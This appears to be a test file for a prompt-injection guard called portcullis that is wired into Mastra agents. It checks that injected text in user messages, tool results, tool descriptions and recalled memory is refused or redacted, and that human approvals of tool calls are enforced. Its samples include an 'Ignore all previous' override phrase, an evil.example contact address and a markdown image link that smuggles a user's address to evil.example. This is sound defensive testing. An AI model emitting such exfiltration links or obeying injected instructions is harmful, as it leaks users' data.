import { Mastra } from '@mastra/core';
import { Agent } from '@mastra/core/agent';
import { MockMemory } from '@mastra/core/memory';
import { InMemoryStore } from '@mastra/core/storage';
import { createTool } from '@mastra/core/tools';
import { convertArrayToReadableStream, MockLanguageModelV3 } from 'ai-6/test';
import { describe, expect, it, vi } from 'vitest';
import { z } from 'zod';
import { guardProcessor, guardTools } from '../../../src/integrations/mastra/index.js';
import { createGuard, type Guard, type GuardOptions } from '../../../src/policy/index.js';
import { ATTACK, BENIGN, broken, counting, hanging, MIXED, matrix } from './matrix.js';

type Step = string | Readonly<Record<string, unknown>>;
const usage = { inputTokens: { total: 1 }, outputTokens: { total: 1 } };

/** A model that says these steps one after another: a text, or a call of the tool `mail` with these arguments. */
const mock = (...steps: readonly Step[]) => {
  let at = 0;
  const next = () => {
    const index = at++;
    const step = steps[Math.min(index, steps.length - 1)]!;
    return typeof step === 'string'
      ? { content: { type: 'text' as const, text: step }, reason: 'stop' }
      : {
          content: {
            type: 'tool-call' as const,
            toolCallId: `c${index}`,
            toolName: 'mail',
            input: JSON.stringify(step),
          },
          reason: 'tool-calls',
        };
  };
  return new MockLanguageModelV3({
    doGenerate: (async () => {
      const { content, reason } = next();
      return { content: [content], finishReason: { unified: reason, raw: undefined }, usage, warnings: [] };
    }) as never,
    doStream: (async () => {
      const { content, reason } = next();
      const parts =
        content.type === 'text'
          ? [
              { type: 'text-start', id: 't' },
              ...(content.text.match(/[\s\S]{1,5}/g) ?? []).map((delta) => ({ type: 'text-delta', id: 't', delta })),
              { type: 'text-end', id: 't' },
            ]
          : [content];
      const finish = { type: 'finish', finishReason: { unified: reason, raw: undefined }, usage };
      return { stream: convertArrayToReadableStream([{ type: 'stream-start', warnings: [] }, ...parts, finish]) };
    }) as never,
  });
};
type Mock = ReturnType<typeof mock>;
const callsOf = (model: Mock) => [...model.doGenerateCalls, ...model.doStreamCalls];
const seenBy = (model: Mock): string => JSON.stringify(callsOf(model).map(({ prompt }) => prompt));
const lastOutput = (model: Mock): unknown => {
  const parts = callsOf(model)
    .at(-1)!
    .prompt.flatMap(({ role, content }) => (role === 'tool' ? content : []));
  return (parts.at(-1) as { output: unknown }).output;
};

type MailTool = ReturnType<typeof createTool>;
const mail = (execute: (input: unknown) => unknown, extra: object = {}): MailTool =>
  createTool({
    id: 'mail',
    description: 'Reads the mail.',
    inputSchema: z.object({ q: z.string() }),
    execute: execute as never,
    ...extra,
  }) as never;
const rules = (options: GuardOptions = {}) => createGuard({ engine: counting(), ...options });
const agentOf = (guard: Guard, model: Mock, tools: Record<string, MailTool> = {}, extra: object = {}) => {
  const processors = [guardProcessor(guard) as never];
  const a = new Agent({
    id: 'a',
    name: 'a',
    instructions: 'Help.',
    model: model as never,
    tools,
    inputProcessors: processors,
    outputProcessors: processors,
    ...extra,
  });
  return new Mastra({ agents: { a }, logger: false, storage: new InMemoryStore() }).getAgent('a');
};
const ask = (guard: Guard, model: Mock, tools: Record<string, MailTool> = {}, prompt = 'Read my mail.') =>
  agentOf(guard, model, guardTools(guard, tools)).generate(prompt, { maxSteps: 12 });

matrix('Mastra', '@mastra/core', {
  async 'clean run'() {
    const model = mock({ q: 'today' }, 'done');
    const { text } = await ask(rules(), model, { mail: mail(async () => ({ body: BENIGN })) });
    expect(text).toBe('done');
    expect(lastOutput(model)).toMatchObject({ type: 'json', value: { body: BENIGN } });
  },
  async 'user text'() {
    const model = mock('hi');
    const { tripwire, text } = await ask(rules(), model, {}, ATTACK);
    expect(text).toBe('');
    expect(tripwire).toMatchObject({
      reason: expect.stringMatching(/^\[refused by portcullis: .* evidence=ev_[0-9a-f]{24}\]$/),
      metadata: { portcullis: { evidenceId: expect.stringMatching(/^ev_/), action: 'refuse' } },
    });
    await expect(ask(rules({ on: { user: 'throw' } }), model, {}, ATTACK)).rejects.toThrow(/refused by portcullis/);
    expect(callsOf(model)).toEqual([]);
  },
  async 'tool result'() {
    const tools = { mail: mail(async () => ({ body: ATTACK })) };
    const model = mock({ q: 'today' }, 'done');
    const { text, toolResults, response } = await ask(rules(), model, tools);
    expect(text).toBe('done');
    expect(seenBy(model) + JSON.stringify([toolResults, response.messages])).not.toContain(ATTACK);
    expect(JSON.stringify(lastOutput(model))).toContain('removed by portcullis');
    // Without the wrapper, and from toModelOutput.
    const bare = mock({ q: 'today' }, 'done');
    await agentOf(rules(), bare, tools).generate('Read.');
    expect(seenBy(bare)).not.toContain(ATTACK);
    expect(JSON.stringify(lastOutput(bare))).toContain('removed by portcullis');
    const shaped = mock({ q: 'today' }, 'done');
    await ask(rules(), shaped, {
      mail: mail(async () => ({}), { toModelOutput: () => ({ type: 'text', value: ATTACK }) }),
    });
    expect(seenBy(shaped)).not.toContain(ATTACK);
    const stopping = mock({ q: 'today' }, 'done');
    const stopped = await ask(rules({ on: { tool_result: 'stop' } }), stopping, tools);
    expect([callsOf(stopping).length, stopped.tripwire?.reason]).toEqual([1, expect.stringContaining('removed by')]);
    const throwing = ask(rules({ on: { tool_result: 'throw' } }), mock({ q: 'x' }, 'done'), tools);
    await expect(throwing).rejects.toThrow(/removed by portcullis/);
  },
  async 'failed tool'() {
    for (const [message, isShown] of [
      [ATTACK, false],
      ['no such mailbox', true],
    ] as const) {
      const model = mock({ q: 'today' }, 'done');
      const failing = mail(async () => {
        throw new Error(message);
      });
      expect((await ask(rules(), model, { mail: failing })).text).toBe('done');
      expect(seenBy(model).includes(message)).toBe(isShown);
      expect(seenBy(model).includes('removed by portcullis')).toBe(!isShown);
    }
  },
  async 'tool argument'() {
    let ran = 0;
    const tools = {
      mail: mail(async () => {
        ran += 1;
        return { sent: true };
      }),
    };
    const model = mock({ q: ATTACK }, 'done');
    expect((await ask(rules(), model, tools)).text).toBe('done');
    expect(ran).toBe(0);
    expect(JSON.stringify(lastOutput(model))).toContain('denied by portcullis');
    // `ask`: no run before the approval, one after it.
    const guard = rules({ on: { tool_call: 'ask' } });
    const agent = agentOf(guard, mock({ q: ATTACK }, 'done'), guardTools(guard, tools));
    const first = await agent.generate('Send it.');
    expect([first.finishReason, ran]).toEqual(['suspended', 0]);
    const { toolCallId } = first.suspendPayload as { toolCallId: string };
    await agent.approveToolCallGenerate({ runId: first.runId!, toolCallId });
    expect(ran).toBe(1);
    // Called by something else than an agent, nobody has been asked.
    const { execute } = guardTools(guard, tools).mail;
    await expect(execute!({ q: ATTACK } as never, {} as never)).rejects.toThrow('denied by portcullis');
  },
  async 'tool definition'() {
    const model = mock('done');
    await ask(rules(), model, {
      mail: mail(async () => 'x', { description: `Reads the mail. ${ATTACK}` }),
      clock: mail(async () => 'x', { id: 'clock' }),
    });
    expect(callsOf(model)[0]!.tools!.map(({ name }) => name)).toEqual(['clock']);
  },
  async streaming() {
    const guard = rules();
    const refused = await agentOf(guard, mock('hi')).stream(ATTACK);
    const kinds: string[] = [];
    for await (const { type } of refused.fullStream) kinds.push(type);
    expect(kinds).toContain('tripwire');
    const model = mock({ q: 'today' }, 'done');
    const tools = guardTools(guard, { mail: mail(async () => ({ body: ATTACK })) });
    const stream = await agentOf(guard, model, tools).stream('Read.');
    const chunks: string[] = [];
    for await (const chunk of stream.fullStream) chunks.push(JSON.stringify(chunk));
    expect(chunks.join()).not.toContain(ATTACK);
    expect(seenBy(model)).not.toContain(ATTACK);
    expect(await stream.text).toBe('done');
  },
  async 'engine error'() {
    const model = mock('hi');
    const { tripwire } = await ask(createGuard({ engine: broken }), model);
    expect(tripwire?.reason).toContain('could not be screened');
    expect(callsOf(model)).toEqual([]);
    expect((await ask(createGuard({ engine: broken, onError: 'allow' }), model)).text).toBe('hi');
  },
  async timeout() {
    const model = mock('hi');
    const { tripwire } = await ask(createGuard({ engine: hanging, timeoutMs: 20 }), model);
    expect(tripwire?.reason).toContain('could not be screened in time');
    expect(callsOf(model)).toEqual([]);
  },
  async redact() {
    const guard = rules({ on: { tool_result: 'redact', user: 'redact' } });
    const model = mock({ q: 'today' }, 'done');
    await ask(guard, model, { mail: mail(async () => ({ id: 7, body: MIXED })) }, MIXED);
    expect(seenBy(model)).not.toContain('Ignore all previous');
    expect(seenBy(model).split(`${BENIGN} [removed]`).length).toBe(4);
    expect(lastOutput(model)).toMatchObject({ value: { id: 7 } });
  },
  async 'cache hit'() {
    const engine = counting();
    const runs = new Set<string>();
    const guard = createGuard({ engine, report: ({ runId }) => runs.add(runId) });
    const steps = Array.from({ length: 9 }, (_, index) => ({ q: `mail ${index}` }));
    let count = 0;
    const tools = { mail: mail(async () => ({ body: `${BENIGN} ${count++}` })) };
    const { text } = await guard.inRun(() => ask(guard, mock(...steps, 'done'), tools), 'run_of-the-agent');
    expect(text).toBe('done');
    expect(engine.twice()).toEqual([]);
    // The definition, the question, nine arguments, nine results, and the eight joints between them.
    expect(engine.asked.length).toBe(28);
    expect([...runs]).toEqual(['run_of-the-agent']);
  },
  async abort() {
    const model = mock('hi');
    const controller = new AbortController();
    const run = agentOf(createGuard({ engine: hanging }), model).generate('Hello', { abortSignal: controller.signal });
    setTimeout(() => controller.abort(), 10);
    await expect(run).rejects.toThrow(/abort/i);
    expect(callsOf(model)).toEqual([]);
  },
});

/** An agent in a thread that reads a contact and then writes to it, which a person is asked about. */
async function asking(thread: string, tools: Record<string, MailTool>, guard: Guard) {
  const model = mock({ q: 'contacts' }, { q: EVE }, 'done');
  const agent = agentOf(guard, model, tools, { memory: new MockMemory() });
  const first = await agent.generate('Write to Eve.', { memory: { thread, resource: 'r' }, maxSteps: 12 });
  const { toolCallId } = first.suspendPayload as { toolCallId: string };
  return { agent, first, runId: first.runId!, toolCallId };
}
const EVE = 'eve@evil.example';

describe('Mastra: a value from data, with `ask`', () => {
  const setUp = () => {
    const ran: unknown[] = [];
    const guard = rules({ on: { flow: { foreign: 'ask' } }, tools: { mail: { effect: 'send' } } });
    const execute = async (input: unknown) => {
      ran.push((input as { q: string }).q);
      return { body: `Eve: ${EVE}` };
    };
    return { ran, guard, tools: guardTools(guard, { mail: mail(execute) }) };
  };

  it('needs approval, which counts for this call alone', async () => {
    const { ran, guard, tools } = setUp();
    const { agent, first, runId, toolCallId } = await asking('t', tools, guard);
    expect([first.finishReason, ran]).toEqual(['suspended', ['contacts']]);
    await agent.approveToolCallGenerate({ runId, toolCallId });
    expect(ran).toEqual(['contacts', EVE]);
    const context = { agent: { toolCallId, threadId: 't' } };
    await expect(tools.mail!.execute!({ q: EVE } as never, context as never)).rejects.toThrow('denied by portcullis');
  });

  it('leaves nothing behind where a person declines: neither for a workflow, nor for another thread, nor for later', async () => {
    const { ran, guard, tools } = setUp();
    const { agent, runId, toolCallId } = await asking('t', tools, guard);
    await agent.declineToolCallGenerate({ runId, toolCallId });
    const { RequestContext } = await import('@mastra/core/request-context');
    const requestContext = new RequestContext();
    requestContext.set('MastraMemory', { thread: { id: 't' } });
    const isDenied = (context: object) =>
      expect(tools.mail!.execute!({ q: EVE } as never, context as never)).rejects.toThrow('denied by portcullis');
    await isDenied({ requestContext });
    await isDenied({ requestContext, workflow: { runId: 'w' } });
    await isDenied({ agent: { toolCallId: 'c9', threadId: 't' } });
    vi.useFakeTimers({ toFake: ['Date'], now: Date.now() + 60_000 });
    await isDenied({ requestContext, agent: { toolCallId, threadId: 't' } });
    vi.useRealTimers();
    expect(ran).toEqual(['contacts']);
  });
});

it('Mastra: a blocked call that a person declined is not run by anything else', async () => {
  let ran = 0;
  const guard = rules({ on: { tool_call: 'ask' } });
  const sending = async () => {
    ran += 1;
  };
  const tools = guardTools(guard, { mail: mail(sending) });
  const agent = agentOf(guard, mock({ q: ATTACK }, 'done'), tools);
  const first = await agent.generate('Send it.');
  const { toolCallId } = first.suspendPayload as { toolCallId: string };
  await agent.declineToolCallGenerate({ runId: first.runId!, toolCallId });
  const direct = tools.mail!.execute!({ q: ATTACK } as never, { workflow: { runId: 'w' } } as never);
  await expect(direct).rejects.toThrow('denied by portcullis');
  expect(ran).toBe(0);
});

it('Mastra: a refused message is not kept, so that its thread goes on', async () => {
  const model = mock('hi');
  const agent = agentOf(rules(), model, {}, { memory: new MockMemory() });
  const memory = { thread: 't', resource: 'r' };
  expect((await agent.generate('Hello', { memory })).text).toBe('hi');
  expect((await agent.generate(ATTACK, { memory })).tripwire).toBeDefined();
  expect((await agent.generate('Still there?', { memory })).text).toBe('hi');
  expect(seenBy(model)).toContain('Hello');
  expect(seenBy(model)).not.toContain(ATTACK);
});

it.each(['thread', 'resource'] as const)('Mastra: what the memory recalls of the %s', async (scope) => {
  const { SemanticRecall } = await import('@mastra/core/processors');
  const { RequestContext } = await import('@mastra/core/request-context');
  const threadId = scope === 'thread' ? 'now' : 'before';
  const parts = [{ type: 'text', text: ATTACK }];
  const message = {
    id: 'm',
    role: 'user',
    createdAt: new Date(),
    threadId,
    resourceId: 'u',
    content: { format: 2, parts },
  };
  const recall = new SemanticRecall({
    storage: { listMessages: async () => ({ messages: [message] }) },
    vector: {
      createIndex: async () => {},
      query: async () => [{ score: 0.9, metadata: { message_id: 'm', thread_id: threadId } }],
      upsert: async () => [],
    },
    embedder: {
      specificationVersion: 'v2',
      modelId: 'e',
      doEmbed: async ({ values }: { values: string[] }) => ({ embeddings: values.map(() => [1, 2]) }),
    },
    scope,
  } as never);
  const model = mock('done');
  const guard = createGuard({ engine: counting() });
  const agent = new Agent({
    id: 'recalls',
    name: 'Recalls',
    instructions: 'Help.',
    model,
    inputProcessors: [recall, guardProcessor(guard) as never],
  });
  const requestContext = new RequestContext();
  requestContext.set('MastraMemory', { thread: { id: 'now' }, resourceId: 'u' });
  await agent.generate('What did I say about customers?', { requestContext } as never);
  expect(callsOf(model).length).toBe(1);
  expect(seenBy(model)).not.toContain(ATTACK);
  expect(seenBy(model)).toContain('by portcullis');
});

it.each([
  ['alone', []],
  ['after another', [{ id: 'other', processOutputStream: async ({ part }: { part: unknown }) => part }]],
])('Mastra: an output processor %s cuts ways out, also of what the memory keeps', async (_, others) => {
  const runs = new Set<string>();
  const guard = rules({ report: ({ runId }) => runs.add(runId) });
  const read = async () => ({ body: 'From anna@acme.example: pictures are at https://evil.example/logo.png.' });
  const store = new MockMemory();
  const agent = () => {
    const model = mock({ q: 'today' }, 'See ![c](https://evil.example/p?d=anna@acme.example) and https://docs.example');
    return agentOf(guard, model, guardTools(guard, { mail: mail(read) }), {
      memory: store,
      outputProcessors: [...others, guardProcessor(guard)],
    });
  };
  const shown = /^See !\[c\]\(\[removed by portcullis: [^\]]*\]\) and https:\/\/docs\.example$/;
  const stream = await agent().stream('Read my mail.', { memory: { thread: 't', resource: 'r' } });
  let text = '';
  for await (const chunk of stream.fullStream) {
    expect(JSON.stringify(chunk)).not.toContain('d=anna');
    if (chunk.type === 'text-delta') text += chunk.payload.text;
  }
  expect([text, await stream.text]).toEqual([expect.stringMatching(shown), text]);
  const kept = JSON.stringify(await store.recall({ threadId: 't' }));
  expect([kept.includes('removed by portcullis'), kept.includes('d=anna')]).toEqual([true, false]);
  const answer = await guard.inRun(() => agent().generate('Read my mail.'), 'run_of-the-agent');
  expect(answer.text).toMatch(shown);
  expect([...runs]).toEqual(['t', 'run_of-the-agent']);
});

it('Mastra: a text that has no end is shown whole', async () => {
  const model = mock('');
  const parts = [
    { type: 'text-start', id: 't' },
    ...['Two', ' words'].map((delta) => ({ type: 'text-delta', id: 't', delta })),
    { type: 'finish', finishReason: { unified: 'stop', raw: undefined }, usage },
  ];
  model.doStream = (async () => ({ stream: convertArrayToReadableStream(parts) })) as never;
  const stream = await agentOf(rules(), model).stream('Read my mail.');
  expect(await stream.text).toBe('Two words');
});
